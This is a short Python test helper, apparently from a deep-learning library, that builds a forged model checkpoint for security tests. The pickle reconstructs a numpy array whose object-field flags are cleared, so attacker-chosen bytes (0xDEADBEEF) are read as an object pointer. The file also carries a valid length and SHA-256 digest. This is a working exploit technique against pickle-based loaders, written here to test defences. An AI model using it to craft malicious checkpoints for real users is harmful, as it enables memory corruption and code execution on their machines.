"""Forged files: what an attacker would hand a user as a checkpoint (used by the tests, in subprocesses)."""
from __future__ import annotations

import hashlib
import pickle
import struct

import numpy as np

MAGIC = b"DEZERO-CHECKPOINT 1\n"


class _ObjectRecordDType:
    """Pickles as a record dtype with one object field whose flags are cleared: numpy, unpickling
    it, no longer knows that the field holds object pointers."""

    def __reduce__(self):
        fields = {"a": (np.dtype("O"), 0)}
        return np.dtype, ("V8", False, True), (3, "|", None, ("a",), fields, 8, 1, 0)


class _ArrayOfPointers:
    """Pickles as a 1-element array of that dtype whose 8 bytes are an address chosen by the file."""

    def __reduce__(self):
        from numpy._core.multiarray import _reconstruct

        state = (1, (1,), _ObjectRecordDType(), False, struct.pack("<Q", 0xDEADBEEF))
        return _reconstruct, (np.ndarray, (0,), b"b"), state


def forged_checkpoint() -> bytes:
    """A format-1 checkpoint (valid length and SHA-256: an attacker computes them) whose model
    weight is the array above."""
    payload = pickle.dumps({"format": 1, "model": {"l0/W": _ArrayOfPointers()}}, protocol=pickle.HIGHEST_PROTOCOL)
    return MAGIC + len(payload).to_bytes(8, "big") + hashlib.sha256(payload).digest() + payload
